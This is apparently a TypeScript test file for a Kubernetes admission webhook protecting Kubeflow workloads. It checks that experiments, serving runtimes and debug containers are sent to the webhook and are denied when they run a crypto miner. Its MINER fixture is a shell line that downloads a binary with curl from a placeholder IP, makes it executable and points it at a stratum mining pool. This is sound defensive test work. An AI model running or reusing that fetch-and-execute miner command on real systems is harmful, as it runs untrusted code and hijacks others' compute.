// The webhook configuration sends every workload kind the handler can judge: the list is derived
// from the workload shapes and the rules' kinds, so a kind denied when posted directly is also sent.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DEFAULT_CONFIG } from '../../src/core/config-types.js';
import type { K8sObject } from '../../src/core/types.js';
import { WORKLOAD_SHAPES } from '../../src/k8s/workload-shapes.js';
import { newSnapshot } from '../../src/k8s/inventory.js';
import { ALL_RULES } from '../../src/rules/index.js';
import { handleReview } from '../../src/webhook/handler.js';
import { ADMITTED_KINDS } from '../../src/webhook/kinds.js';
import { silentLogger } from '../../src/webhook/logging.js';
import { webhookManifests } from '../../src/webhook/manifests.js';
import { WebhookMetrics } from '../../src/webhook/metrics.js';
import { DEFAULT_DECISION_SETTINGS } from '../../src/webhook/settings.js';
import { minerPod, review } from './harness.js';

interface WebhookRule {
  apiGroups: string[];
  resources: string[];
  operations: string[];
}
const sent = (): Set<string> => {
  const config = webhookManifests({ namespace: 'kfguard', tls: 'cert-manager', failurePolicy: 'fail' }).find((o) => o.kind === 'ValidatingWebhookConfiguration') as { webhooks: { rules: WebhookRule[] }[] };
  return new Set(config.webhooks[0]!.rules.filter((r) => r.operations.includes('CREATE')).flatMap((r) => r.resources.map((res) => `${r.apiGroups[0]}/${res}`)));
};

const MINER = ['sh', '-c', 'curl -s http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://pool.example.com:3333'];
const experiment: K8sObject = {
  apiVersion: 'kubeflow.org/v1beta1',
  kind: 'Experiment',
  metadata: { name: 'hp', namespace: 'kubeflow-user-example-com' },
  spec: { trialTemplate: { trialSpec: { apiVersion: 'batch/v1', kind: 'Job', spec: { template: { spec: { containers: [{ name: 'training', image: 'python:3.11', command: MINER }] } } } } } },
};
const servingRuntime: K8sObject = {
  apiVersion: 'serving.kserve.io/v1alpha1',
  kind: 'ServingRuntime',
  metadata: { name: 'rt', namespace: 'kubeflow-user-example-com' },
  spec: { supportedModelFormats: [{ name: 'sklearn' }], containers: [{ name: 'kserve-container', image: 'python:3.11', command: MINER }] },
};
const debugged: K8sObject = {
  ...minerPod(),
  spec: { containers: [{ name: 'main', image: 'python:3.11' }], ephemeralContainers: [{ name: 'debugger-x', image: 'busybox:1.36', command: MINER }] },
};

async function decide(body: string): Promise<boolean> {
  const context = { rules: ALL_RULES, config: DEFAULT_CONFIG, settings: DEFAULT_DECISION_SETTINGS, metrics: new WebhookMetrics(), logger: silentLogger(), snapshot: () => newSnapshot() };
  const result = await handleReview(body, context, performance.now());
  return (result.body as { response: { allowed: boolean } }).response.allowed;
}

describe('kinds the webhook judges are kinds it is sent', () => {
  test('every served workload shape is admitted and sent, with pods/ephemeralcontainers', () => {
    const resources = sent();
    for (const { group, resource, kind } of WORKLOAD_SHAPES.servedWorkloads) {
      assert.ok(ADMITTED_KINDS.includes(kind), kind);
      assert.ok(resources.has(`${group}/${resource}`), `${kind} (${group}/${resource}) is not sent`);
    }
    for (const name of ['kubeflow.org/experiments', 'serving.kserve.io/servingruntimes', '/pods/ephemeralcontainers']) assert.ok(resources.has(name), name);
    // Exec is CONNECT with PodExecOptions; no rule judges that kind, so it is not sent.
    assert.ok(!resources.has('/pods/exec'));
  });

  test('a Katib Experiment, a KServe ServingRuntime and a kubectl debug container that mine are denied', async () => {
    assert.equal(await decide(review(experiment)), false);
    assert.equal(await decide(review(servingRuntime)), false);
    const subresource = review(debugged, { operation: 'UPDATE', subResource: 'ephemeralcontainers', resource: { group: '', version: 'v1', resource: 'pods' }, oldObject: minerPod() });
    assert.equal(await decide(subresource), false);
  });
});
